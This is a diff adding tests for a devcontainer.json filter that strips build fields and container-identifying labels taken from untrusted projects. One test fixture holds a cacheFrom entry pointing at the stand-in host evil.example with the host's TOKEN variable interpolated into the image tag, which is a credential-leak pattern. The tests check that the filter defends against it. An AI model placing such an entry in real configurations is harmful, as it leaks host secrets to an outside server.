@@ -80,6 +80,7 @@ def test_run_args_only_known_harmless_flags() -> None:
     assert set(left_out(carried)) == {
         "runArgs: --gpus=all",
         "runArgs: --hostname=${localEnv:HOST}",
+        "runArgs: --label=dev.sandboxd.project=/x",
         "runArgs: other:image",
     }
 
@@ -97,3 +98,21 @@ def test_duplicates_count_once_with_the_last_value() -> None:
 def test_files_that_hold_no_object_give_nothing() -> None:
     for text in ("", "[]", "3", "{"):
         assert taken(text).members == ()
+
+
+def test_no_part_of_a_build_copies_the_hosts_variables() -> None:
+    carried = taken(
+        """{"build": {"dockerfile": "D", "target": "${localEnv:A}",
+        "cacheFrom": ["evil.example/x:${localEnv:TOKEN}"]}}"""
+    )
+    assert dict(carried.members)["build"] == {"dockerfile": "../D", "context": ".."}
+    assert set(left_out(carried)) == {"build.target", "build.cacheFrom"}
+
+
+def test_labels_by_which_tools_find_their_containers_are_left_out() -> None:
+    carried = taken(
+        """{"runArgs": ["--label=devcontainer.local_folder=/home/dev/other", "-l", "team=weather",
+        "--label", "com.docker.compose.project=other", "--label=dev.sandboxd.project=/x"]}"""
+    )
+    assert carried.run_args == ("--label=team=weather",)
+    assert len(carried.left_out) == 3
